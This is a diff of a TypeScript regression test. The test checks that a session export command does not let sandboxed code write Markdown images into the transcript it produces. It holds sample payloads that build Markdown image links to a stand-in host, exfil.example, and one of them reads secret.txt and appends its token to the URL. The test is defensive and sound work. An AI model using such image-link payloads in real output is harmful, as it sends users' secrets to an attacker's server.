@@ -16,67 +16,27 @@
 // A fix: write every piece of sandbox text in a fence or a code span sized to it (as the blocks' output
 // is), or escape Markdown's punctuation in it.
 import assert from 'node:assert/strict'
-import { spawnSync } from 'node:child_process'
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { mkdtempSync, rmSync } from 'node:fs'
 import { tmpdir } from 'node:os'
-import { join, resolve } from 'node:path'
+import { join } from 'node:path'
 import { after, test } from 'node:test'
-import { createEngine } from '../../src/engine/index.js'
-import { python } from '../sessions/helpers.js'
+import { prose, sessionReadingSecret, visExport } from './sessions-export-markdown.js'
 
 const base = mkdtempSync(join(tmpdir(), 'vis-attack-export-md-'))
 after(() => rmSync(base, { recursive: true, force: true }))
 
-const visBin = resolve(import.meta.dirname, '../../bin/vis.js')
-
-// The Markdown text outside fenced code blocks and code spans (CommonMark: a fence closes on a line of
-// at least as many of its characters; a code span on the same number of backticks).
-function prose(md: string): string {
-  const out: string[] = []
-  let open: string | undefined
-  for (const line of md.split('\n')) {
-    const f = /^ {0,3}(`{3,}|~{3,})/.exec(line)
-    if (open !== undefined) {
-      if (f && f[1]![0] === open[0] && f[1]!.length >= open.length && line.trim() === f[1]) open = undefined
-      continue
-    }
-    if (f) {
-      open = f[1]
-      continue
-    }
-    out.push(line.replace(/(`+)[\s\S]*?\1/g, ''))
-  }
-  return out.join('\n')
-}
-
 test('a block cannot write Markdown images into the transcript `vis sessions export` produces', async () => {
-  const home = join(base, 'home')
-  const R = join(base, 'R')
-  mkdirSync(home)
-  mkdirSync(R)
-  writeFileSync(join(R, 'secret.txt'), 'TOKEN-1234\n')
-  const engine = await createEngine({ home, python, pool: { size: 0 }, extensions: false })
-  let id: string
-  try {
-    const s = await engine.createSession({ roots: [R] })
-    id = s.id
-    await engine.runBlock(s.id, {
-      code: "vis_attach_bytes(b'hello', name='x` ![a](https://exfil.example/n) `')\nprint('ok')",
-    })
-    await engine.runBlock(s.id, {
-      code: "raise RuntimeError('![status](https://exfil.example/c?d=' + open('secret.txt').read().strip() + ')')",
-    })
-  } finally {
-    await engine.close()
-  }
-  const r = spawnSync(process.execPath, [visBin, 'sessions', 'export', id], {
-    env: { ...process.env, VIS_HOME: home },
-    encoding: 'utf8',
-    timeout: 60_000,
-  })
+  const { home, id } = await sessionReadingSecret(base, 'TOKEN-1234', [
+    "vis_attach_bytes(b'hello', name='x` ![a](https://exfil.example/n) `')\nprint('ok')",
+    "raise RuntimeError('![status](https://exfil.example/c?d=' + open('secret.txt').read().strip() + ')')",
+  ])
+  const r = visExport(home, id)
   assert.equal(r.status, 0, r.stderr)
   assert.match(r.stdout, /TOKEN-1234/, `the export does not hold the block's error: ${r.stdout}`)
-  const images = prose(r.stdout).match(/!\[[^\]]*\]\([^)]*\)/g) ?? []
+  const images =
+    prose(r.stdout)
+      .join('\n')
+      .match(/!\[[^\]]*\]\([^)]*\)/g) ?? []
   assert.deepEqual(
     images,
     [],
